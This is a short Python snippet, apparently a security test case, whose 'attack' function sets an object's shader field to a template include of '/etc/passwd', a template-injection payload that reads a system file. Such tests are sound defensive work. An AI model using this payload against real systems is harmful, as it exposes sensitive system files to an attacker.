# attack.txt says what this tries.
def attack(p):
    p.shader = '{% include "/etc/passwd" %}'
